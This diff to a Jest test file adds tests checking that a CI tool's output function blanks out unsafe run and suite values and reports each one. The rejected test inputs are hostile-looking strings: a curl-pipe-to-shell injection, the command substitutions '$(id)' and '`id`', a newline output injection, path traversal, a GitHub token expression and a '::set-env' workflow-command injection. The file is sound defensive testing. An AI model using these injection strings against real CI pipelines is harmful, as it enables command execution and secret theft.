@@ -1,7 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import type { IterationReport, Outcome, RunReport } from '../src/model/run-report.ts';
 import type { Verdict } from '../src/model/verdict.ts';
-import { outputsOf } from '../src/outputs.ts';
+import { outputNotices, outputsOf } from '../src/outputs.ts';
 
 const verdict: Verdict = { value: 'failed', checks: [], headline: 'h' };
 
@@ -56,6 +56,49 @@ const PLACES = {
   commentUrl: 'https://github.test/comment',
   artifactUrl: 'https://github.test/artifact',
 };
+
+describe('outputs in the words of others', () => {
+  const sample = report(['passed']);
+  const withWords = (text: string): RunReport => ({
+    ...sample,
+    suite: { id: text, name: 'smoke' },
+    run: sample.run && { ...sample.run, id: text, status: text },
+  });
+  const words = (text: string) => {
+    const outputs = outputsOf(withWords(text), verdict, {});
+    return ['status', 'run-id', 'suite-id'].map((name) => Reflect.get(outputs, name));
+  };
+
+  it.each(['completed', 'r_1', 'jd7f0-9A', 'urn:run:1.2', 'timed_out', 'x'.repeat(200)])(
+    'are handed on where they are plain: %s',
+    (text) => {
+      expect(words(text)).toEqual([text, text, text]);
+      expect(outputNotices(withWords(text))).toEqual([]);
+    },
+  );
+
+  it.each([
+    '"; curl https://a.example | sh; "',
+    '$(id)',
+    '`id`',
+    "' || true #",
+    'a\nverdict=passed',
+    'a b',
+    '-rf',
+    '../../x',
+    '$\u007b{ github.token }}',
+    'a<<EOF',
+    '%0A::set-env',
+    'é',
+    'completed\u200b',
+    'x'.repeat(201),
+  ])('are left out, and named, where they are not: %j', (text) => {
+    expect(words(text)).toEqual(['', '', '']);
+    const notices = outputNotices(withWords(text));
+    expect(notices.map((notice) => notice.split(' ')[1])).toEqual(['status', 'run-id', 'suite-id']);
+    for (const notice of notices) expect(notice).not.toContain(text);
+  });
+});
 
 describe('outputsOf', () => {
   it('counts iterations, without the skipped ones', () => {
